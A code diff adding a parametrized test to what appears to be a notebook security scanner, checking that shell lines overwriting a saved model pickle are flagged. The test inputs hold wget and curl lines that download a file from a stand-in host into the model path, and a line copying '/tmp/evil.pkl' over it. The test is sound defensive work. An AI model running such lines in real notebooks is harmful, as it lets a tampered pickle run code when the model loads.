@@ -1966,6 +1966,28 @@ def test_a_notebook_shell_line_handed_the_saved_path_by_interpolation(
     assert [f.severity.value for f in scan_code(tmp_path, text, "nb.ipynb") if f.rule_id == "MLS306"] == [severity]
 
 
+@pytest.mark.parametrize(
+    ("between", "severity"),
+    [
+        # IPython fills a name bound once to a literal into the line: the line writes that file.
+        ("target = 'm.pkl'\n!wget -q -O {target} https://x.example/m.pkl", "high"),
+        ("target = 'm.pkl'\n!curl -sL https://x.example/m.pkl -o $target", "high"),
+        ("target = 'm.pkl'\n!cp /tmp/evil.pkl {target}", "high"),
+        # Look-alikes: another file, a name bound twice (its value at the line is not known), a
+        # name never bound, the name only read by the line.
+        ("target = 'data.csv'\n!wget -q -O {target} https://x.example/data.csv", "low"),
+        ("target = 'other.pkl'\ntarget = 'x.pkl'\n!wget -q -O {target} https://x.example/m.pkl", "low"),
+        ("!wget -q -O {unknown_name} https://x.example/m.pkl", "low"),
+        ("target = 'm.pkl'\n!ls -la {target}", "low"),
+    ],
+)
+def test_a_notebook_shell_line_given_another_name_holding_the_saved_path(
+    tmp_path: Path, between: str, severity: str
+) -> None:
+    text = notebook("import joblib", "joblib.dump(m, 'm.pkl')", between, "m = joblib.load('m.pkl')")
+    assert [f.severity.value for f in scan_code(tmp_path, text, "nb.ipynb") if f.rule_id == "MLS301"] == [severity]
+
+
 def test_more_local_paths_beside_a_remote_address_than_followed_may_be_any_file(tmp_path: Path) -> None:
     decoys = ", ".join(f"'d{n}/x'" for n in range(17))
     text = notebook(
